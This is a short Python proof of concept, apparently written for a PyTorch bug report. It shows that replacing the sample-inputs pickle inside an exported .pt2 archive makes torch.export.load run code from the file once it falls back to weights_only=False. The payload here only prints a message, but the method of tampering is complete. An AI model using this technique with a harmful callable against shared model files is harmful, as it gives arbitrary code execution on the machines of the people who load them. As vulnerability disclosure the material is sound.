#| devices: cpu
import io
import logging
import zipfile

import torch

# load() logs the fallback it takes below; this snippet prints the effect instead.
logging.getLogger("torch._export.serde.serialize").setLevel(logging.ERROR)


class AddOne(torch.nn.Module):
    def forward(self, x):
        return x + 1


class Payload:
    def __reduce__(self):  # unpickling this object calls print(...): any callable would do
        return (print, ("  !! code from the file ran inside torch.export.load",))


torch.export.save(torch.export.export(AddOne(), (torch.ones(2),)), "clean.pt2")

# Someone replaces the archive's example inputs with a pickle of their choosing.
evil = io.BytesIO()
torch.save(((Payload(),), {}), evil)
with zipfile.ZipFile("clean.pt2") as src, zipfile.ZipFile("tampered.pt2", "w") as dst:
    for item in src.infolist():
        data = src.read(item.filename)
        if item.filename.endswith("data/sample_inputs/model.pt"):
            data = evil.getvalue()
        dst.writestr(item, data)

print("loading tampered.pt2:")
ep = torch.export.load("tampered.pt2")  # weights_only=True fails, then weights_only=False runs
print("load returned", type(ep).__name__, "with example_inputs", ep.example_inputs)
